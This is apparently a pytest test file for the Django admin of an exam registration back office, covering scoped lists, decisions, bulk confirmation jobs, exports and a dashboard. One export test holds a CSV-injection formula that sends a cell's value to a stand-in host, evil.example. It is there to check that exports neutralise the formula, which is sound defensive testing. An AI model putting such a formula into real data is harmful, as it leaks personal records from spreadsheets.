"""The back office in the Django admin: the scoped list, the read-only detail page, decisions, the bulk
confirmation job, exports and the dashboard."""

from __future__ import annotations

import csv
import io
import time

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from openpyxl import load_workbook

from registration.models import Application, ApplicationEvent
from review.models import Job, JobStatus
from tests.review.conftest import make_candidate, many_submitted

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:registration_application_changelist"


def change_url(application):
    return reverse("admin:registration_application_change", args=[application.pk])


def decide_url(application, kind):
    return reverse("admin:registration_application_decide", args=[application.pk, kind])


@pytest.fixture
def as_staff(client, world):
    def login(name):
        client.force_login(world.staff[name])
        return client

    return login


class TestList:
    def test_the_list_shows_the_scope_only(self, world, as_staff):
        mine = world.make_application(point=world.p1)
        world.make_application(point=world.p2)

        response = as_staff("sh_point").get(reverse(CHANGELIST))

        assert response.status_code == 200
        assert list(response.context["cl"].result_list) == [mine]

    @pytest.mark.parametrize(
        ("query", "expected"),
        [
            ({"status__exact": "confirmation_rejected"}, {"rejected"}),
            ({"resubmitted": "yes"}, {"resubmitted"}),
            ({"resubmitted": "no"}, {"plain", "rejected"}),
            ({"level": "中级"}, {"plain", "rejected", "resubmitted"}),
            ({"level": "初级(师)"}, set()),
        ],
    )
    def test_filters(self, world, as_staff, query, expected):
        applications = {
            "plain": world.make_application(),
            "rejected": world.make_application(status="confirmation_rejected"),
            "resubmitted": world.make_application(resubmission_count=2),
        }
        response = as_staff("sh_district").get(reverse(CHANGELIST), query)
        shown = {name for name, app in applications.items() if app in response.context["cl"].result_list}
        assert shown == expected

    def test_the_point_filter_lists_only_points_in_scope(self, world, as_staff):
        world.make_application(point=world.p1)
        world.make_application(point=world.p2)
        world.make_application(point=world.bj1)

        page = as_staff("sh_site").get(reverse(CHANGELIST)).content.decode()

        assert world.p1.name in page and world.p2.name in page
        assert world.bj1.name not in page

    def test_search_by_number_name_and_whole_id_number(self, world, as_staff):
        wang = make_candidate(name="王小明", id_number="31010119880506123X")
        target = world.make_application(candidate=wang)
        world.make_application()
        client = as_staff("sh_point")

        for term in [target.number, "王小明", "31010119880506123x"]:
            result = client.get(reverse(CHANGELIST), {"q": term}).context["cl"].result_list
            assert list(result) == [target], term

    def test_a_candidate_cannot_open_the_admin(self, world, client):
        client.force_login(make_candidate())
        assert client.get(reverse(CHANGELIST)).status_code == 302


class TestDetail:
    def test_every_section_the_eligibility_panel_and_the_history_are_on_the_page(self, world, as_staff, api_as):
        application = world.make_application()
        api_as("sh_point").post(
            f"/api/v1/staff/applications/{application.pk}/reject/",
            {"reasons": ["other"], "note": "合同缺页"},
            format="json",
        )

        page = as_staff("sh_point").get(change_url(application)).content.decode()

        for title in ["考点信息", "基本信息", "联系方式", "报考信息", "教育情况", "工作情况", "资格预审"]:
            assert title in page
        for value in ["内科学", "复旦大学上海医学院", "上海市第一人民医院", "临床执业医师", "200030"]:
            assert value in page
        assert 'class="review-eligibility' in page
        assert "其他：合同缺页" in page
        assert "（报名点）报名确认不通过：其他：合同缺页" in page  # the audit row, in words
        assert "reject_confirmation" not in page

    def test_content_is_read_only_and_cannot_be_posted(self, world, as_staff):
        application = world.make_application()
        client = as_staff("admin")

        page = client.get(change_url(application)).content.decode()
        assert 'name="_save"' not in page
        assert 'name="mobile"' not in page
        response = client.post(change_url(application), {"mobile": "13900000000"})
        assert response.status_code == 403
        application.refresh_from_db()
        assert application.mobile == "13812341234"

    def test_the_page_offers_only_the_decisions_the_role_may_take_now(self, world, as_staff):
        submitted = world.make_application()
        confirmed = world.make_application(status="confirmed")

        point_page = as_staff("sh_point").get(change_url(submitted)).content.decode()
        assert 'data-kind="confirm"' in point_page and 'data-kind="reject"' in point_page
        assert 'data-kind="approve_site"' not in point_page
        site_page = as_staff("sh_site").get(change_url(confirmed)).content.decode()
        assert 'data-kind="approve_site"' in site_page and 'data-kind="confirm"' not in site_page


class TestDecisions:
    def test_confirm_from_the_detail_page(self, world, as_staff):
        application = world.make_application()
        client = as_staff("sh_point")

        assert client.get(decide_url(application, "confirm")).status_code == 200
        response = client.post(decide_url(application, "confirm"))

        assert response.status_code == 302
        application.refresh_from_db()
        assert application.status == "confirmed"

    def test_reject_needs_a_reason_and_keeps_the_note(self, world, as_staff):
        application = world.make_application()
        client = as_staff("sh_point")

        refused = client.post(decide_url(application, "reject"), {"note": "看不清"})
        assert "请至少选择一项不通过原因" in refused.content.decode()
        client.post(decide_url(application, "reject"), {"reasons": ["unclear_materials"], "note": "看不清"})

        application.refresh_from_db()
        assert application.status == "confirmation_rejected"
        assert application.rejection_reasons == [{"code": "unclear_materials", "label": "材料不清晰", "note": "看不清"}]

    def test_a_decision_refused_by_the_state_is_shown_not_raised(self, world, as_staff):
        application = world.make_application(status="confirmed")
        response = as_staff("sh_point").post(decide_url(application, "confirm"))
        assert response.status_code == 200
        assert "不能报名确认通过" in response.content.decode()

    @pytest.mark.parametrize(("name", "kind", "code"), [("sh_district", "confirm", 403), ("sh_point", "nonsense", 404)])
    def test_a_role_or_kind_that_does_not_fit(self, world, as_staff, name, kind, code):
        application = world.make_application()
        assert as_staff(name).post(decide_url(application, kind)).status_code == code

    def test_out_of_scope_decision_pages_are_404(self, world, as_staff):
        elsewhere = world.make_application(point=world.p2)
        assert as_staff("sh_point").get(decide_url(elsewhere, "confirm")).status_code == 404

    def test_reject_a_selection_through_the_intermediate_form(self, world, as_staff):
        selected = [world.make_application() for _ in range(3)]
        client = as_staff("sh_point")
        ids = [str(app.pk) for app in selected]

        form = client.post(reverse(CHANGELIST), {"action": "reject_selected", ACTION_CHECKBOX_NAME: ids})
        assert "不通过原因" in form.content.decode()
        client.post(
            reverse(CHANGELIST),
            {
                "action": "reject_selected",
                ACTION_CHECKBOX_NAME: ids,
                "apply": "1",
                "reasons": ["missing_materials"],
                "note": "缺学信网认证",
            },
        )

        assert set(Application.objects.filter(pk__in=ids).values_list("status", flat=True)) == {"confirmation_rejected"}

    def test_review_approval_of_a_selection_reports_what_could_not_move(self, world, as_staff):
        ready = world.make_application(status="confirmed")
        not_ready = world.make_application(status="submitted")
        client = as_staff("sh_site")

        response = client.post(
            reverse(CHANGELIST),
            {"action": "approve_site_selected", ACTION_CHECKBOX_NAME: [ready.pk, not_ready.pk], "apply": "1"},
            follow=True,
        )

        messages = [str(message) for message in response.context["messages"]]
        assert any("考点初审通过：1条" in message for message in messages)
        assert any(not_ready.number in message for message in messages)
        ready.refresh_from_db()
        assert ready.status == "site_approved"

    def test_actions_follow_the_role(self, world, as_staff):
        world.make_application()
        actions = as_staff("sh_site").get(reverse(CHANGELIST)).context["action_form"].fields["action"].choices
        names = {name for name, _label in actions}
        # Site staff confirm too (seed 003 line 781: "到所选考点或其下设报名点").
        assert {"approve_site_selected", "reject_site_selected", "bulk_confirm", "reject_selected"} <= names
        assert "approve_district_selected" not in names

    def test_the_declaration_page_updates_the_pre_check(self, world, as_staff):
        application = world.make_application()
        client = as_staff("sh_point")
        url = reverse("admin:registration_application_declaration", args=[application.pk])

        assert client.get(url).status_code == 200
        client.post(url, {"post_changed_on": "2025-03-01"})

        assert "转岗人员从事现岗位工作须满2年" in client.get(change_url(application)).content.decode()


def test_bulk_confirm_of_1000_applications_runs_as_a_job_with_progress(
    world, as_staff, django_capture_on_commit_callbacks
):
    ids = many_submitted(world, 1000)
    elsewhere = world.make_application(point=world.p2)
    client = as_staff("sh_point")

    started = time.perf_counter()
    with django_capture_on_commit_callbacks(execute=True):
        # "Select all 1000": the admin sends one box ticked and select_across, not a thousand ids.
        response = client.post(
            reverse(CHANGELIST),
            {"action": "bulk_confirm", "select_across": "1", "index": "0", ACTION_CHECKBOX_NAME: [ids[0]]},
        )
    elapsed = time.perf_counter() - started

    job = Job.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:review_job_change", args=[job.pk])
    assert (job.status, job.total, job.processed, job.succeeded, job.failed) == (JobStatus.DONE, 1000, 1000, 1000, 0)
    assert Application.objects.filter(pk__in=ids, status="confirmed").count() == 1000
    assert (
        ApplicationEvent.objects.filter(action="confirm", actor=world.staff["sh_point"], reason="批量确认").count()
        == 1000
    )
    elsewhere.refresh_from_db()
    assert elsewhere.status == "submitted"
    page = client.get(response["Location"]).content.decode()
    assert 'data-status="done"' in page and "1000 / 1000（100%）" in page
    print(f"\nbulk confirm: 1000 applications in {elapsed:.1f} s")


def test_a_bulk_job_counts_already_confirmed_ones_as_skipped_and_others_as_failed(
    world, as_staff, django_capture_on_commit_callbacks
):
    confirmed = world.make_application(status="confirmed")
    # Withdrawn after submission: in the point's view, and not to be confirmed.
    draft = world.make_application(status="draft")
    ApplicationEvent.objects.create(application=draft, action="submit", from_status="draft", to_status="submitted")
    fresh = world.make_application()
    client = as_staff("sh_point")

    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse(CHANGELIST), {"action": "bulk_confirm", ACTION_CHECKBOX_NAME: [confirmed.pk, draft.pk, fresh.pk]}
        )

    job = Job.objects.get()
    assert (job.succeeded, job.skipped, job.failed) == (1, 1, 1)
    assert job.errors[0]["number"] == draft.number
    assert "不能报名确认通过" in job.errors[0]["message"]


def test_a_job_page_is_its_creators_or_an_administrators(world, as_staff, django_capture_on_commit_callbacks):
    application = world.make_application()
    with django_capture_on_commit_callbacks(execute=True):
        as_staff("sh_point").post(
            reverse(CHANGELIST), {"action": "bulk_confirm", ACTION_CHECKBOX_NAME: [application.pk]}
        )
    job = Job.objects.get()
    url = reverse("admin:review_job_change", args=[job.pk])

    assert as_staff("sh_point2").get(url).status_code == 404
    assert as_staff("admin").get(url).status_code == 200


class TestExport:
    def test_csv_follows_the_lists_filters_and_the_scope(self, world, as_staff):
        confirmed = world.make_application(status="confirmed")
        world.make_application(status="submitted")
        world.make_application(status="confirmed", point=world.p2)
        url = reverse("admin:registration_application_export", args=["csv"])

        response = as_staff("sh_point").get(url, {"status__exact": "confirmed"})

        text = b"".join(response.streaming_content).decode("utf-8")
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        assert rows[0][:4] == ["网报号", "姓名", "证件号码", "状态"]
        assert [row[0] for row in rows[1:]] == [confirmed.number]
        assert rows[1][3] == "已确认，待审核"
        assert "基础知识" in rows[1][10]

    def test_xlsx_has_the_same_rows(self, world, as_staff):
        application = world.make_application()
        url = reverse("admin:registration_application_export", args=["xlsx"])

        response = as_staff("sh_point").get(url)

        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).active
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0][0] == "网报号"
        assert rows[1][0] == application.number and rows[1][1] == "张三"

    def test_a_formula_in_a_candidates_free_text_is_written_as_text(self, world, as_staff):
        """OWASP CSV injection: =HYPERLINK(...) typed as the unit's name must not run in a spreadsheet."""
        formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
        world.make_application(unit=None, other_unit_name=formula, mobile="13812341234")
        csv_url = reverse("admin:registration_application_export", args=["csv"])
        xlsx_url = reverse("admin:registration_application_export", args=["xlsx"])

        text = b"".join(as_staff("sh_point").get(csv_url).streaming_content).decode("utf-8")
        workbook = load_workbook(io.BytesIO(b"".join(as_staff("sh_point").get(xlsx_url).streaming_content)))

        row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
        assert "'" + formula in row
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
        cells = next(iter(workbook.active.iter_rows(min_row=2, max_row=2)))
        unit_cell = next(cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value)
        assert (unit_cell.data_type, unit_cell.value) == ("s", "'" + formula)

    def test_an_unknown_format_is_404(self, world, as_staff):
        assert (
            as_staff("sh_point").get(reverse("admin:registration_application_export", args=["pdf"])).status_code == 404
        )


def test_the_dashboard_counts_the_scope_by_status_and_submissions_per_day(world, as_staff, api_as):
    submitted = [world.make_application() for _ in range(2)]
    world.make_application(status="confirmed")
    world.make_application(point=world.bj1)
    for application in submitted:
        ApplicationEvent.objects.create(
            application=application, action="submit", from_status="draft", to_status="submitted"
        )

    response = as_staff("sh_district").get(reverse("admin:registration_application_dashboard"))

    page = response.content.decode()
    assert response.context["dashboard"].total == 3
    assert 'data-status="submitted">2<' in page and 'data-status="confirmed">1<' in page
    assert response.context["dashboard"].per_day[-1].count == 2
    assert page.count("data-day=") == 30
